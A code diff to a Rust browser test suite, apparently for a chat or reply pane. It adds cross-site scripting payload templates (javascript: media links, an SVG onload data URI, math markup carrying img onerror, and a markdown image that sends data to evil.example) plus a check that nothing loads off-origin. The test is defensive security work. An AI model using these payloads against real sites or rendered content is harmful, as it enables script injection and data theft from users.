@@ -1138,6 +1138,12 @@ pub fn xss_payloads() -> Vec<String> {
         "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
         "![x](javascript:{})",
         "<style onload=\"{}\"></style>",
+        // Images, media and math, which the pane renders from the reply.
+        "MEDIA:javascript:{}",
+        "![x](data:image/svg+xml,<svg onload=\"{}\"/>)",
+        "$\\operatorname{<img src=x onerror=\"{}\">} x$",
+        "$$\\text{<img src=x onerror=\"{}\">}$$",
+        "![x](https://evil.example/x.png?{})",
     ];
     let mut out = Vec::new();
     for t in templates {
@@ -1254,6 +1260,13 @@ pub async fn hostile_content_never_runs_and_is_shown_as_text(server: Server, b: 
     assert_eq!(checks["handlers"], 0, "{checks}");
     assert_eq!(checks["jslinks"], 0, "{checks}");
     assert_eq!(checks["frames"], 0, "{checks}");
+    let off = b
+        .js(
+            "return performance.getEntriesByType('resource').map(e => e.name)\
+             .filter(n => !n.startsWith(location.origin))",
+        )
+        .await;
+    assert_eq!(off, json!([]), "nothing was fetched off-origin");
     let titles = checks["titles"].to_string();
     assert!(
         titles.contains("<img src=x onerror"),
